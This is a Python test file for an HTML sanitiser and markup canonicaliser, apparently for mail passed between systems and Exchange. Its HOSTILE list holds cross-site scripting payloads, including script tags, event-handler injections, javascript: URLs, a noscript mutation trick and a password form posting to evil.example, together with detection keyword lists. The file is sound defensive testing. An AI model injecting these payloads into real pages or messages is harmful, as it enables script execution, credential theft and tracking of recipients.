"""HTML between the systems: nothing live passes, and Exchange's rewriting is no edit."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared_code.domain.markup import canonical, from_text, sanitise

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
    '<a href=" data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="vbscript:x">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<form action="https://evil.example"><input name=password></form>',
    '<div style="background:url(https://evil.example)">x</div>',
    '<p onclick="alert(1)">x</p>',
    "<style>@import url(https://evil.example)</style>",
    '<link rel=stylesheet href="https://evil.example">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    '<base href="https://evil.example">',
    '<object data="https://evil.example"></object><embed src="https://evil.example">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<img src="https://evil.example/pixel.gif" width=1 height=1>',
]


@pytest.mark.parametrize("markup", HOSTILE)
def test_nothing_live_or_remote_gets_through(markup: str) -> None:
    cleaned = sanitise(f"before {markup} after").lower()

    for live in ("<script", "javascript", "vbscript", "onerror", "onload", "onclick", "<iframe", "<form", "<input"):
        assert live not in cleaned
    for remote in ("evil.example", "<img", "<style", "<link", "<meta", "<base", "style=", "<object", "<embed", "<svg"):
        assert remote not in cleaned
    assert "before" in cleaned


def test_ordinary_markup_and_links_stay() -> None:
    look, write = '<a href="https://example.com/x?a=1&amp;b=2">look</a>', '<a href="mailto:a@b.example">write</a>'
    markup = f"<p>Hello <b>you</b>, {look} or {write}</p>"

    assert sanitise(markup) == markup


@given(st.text(max_size=200))
def test_sanitising_twice_changes_nothing_more(text: str) -> None:
    once = sanitise(text)

    assert sanitise(once) == once


@given(st.text(max_size=200))
def test_plain_text_never_becomes_markup(text: str) -> None:
    made = from_text(text)

    assert made.replace("<br>", "").count("<") == 0


def test_line_breaks_of_plain_text_are_kept() -> None:
    assert from_text("one\r\ntwo\n\nthree & <four>") == "one<br>two<br><br>three &amp; &lt;four&gt;"


@pytest.mark.parametrize(
    "rewritten",
    [
        "<html>\r\n<head>\r\n<meta name='x'></head>\r\n<body>\r\n<p>Bring the <b>offer</b>.</p>\r\n</body></html>\r\n",
        "<div><p>Bring the\r\n<b>offer</b>.</p></div>",
        "<p>Bring the <b>offer</b>.</p><p></p>",
        "  <p>Bring&nbsp;the <b>offer</b>.</p>  ",
    ],
)
def test_rewriting_by_exchange_is_not_a_change(rewritten: str) -> None:
    assert canonical(rewritten) == canonical("<p>Bring the <b>offer</b>.</p>")


@pytest.mark.parametrize(
    "edited",
    ["<p>Bring the offer.</p>", "<p>Bring the <b>offers</b>.</p>", "<p>Bring the <b>offer</b>.</p><p>Twice.</p>"],
)
def test_an_edit_is_a_change(edited: str) -> None:
    assert canonical(edited) != canonical("<p>Bring the <b>offer</b>.</p>")
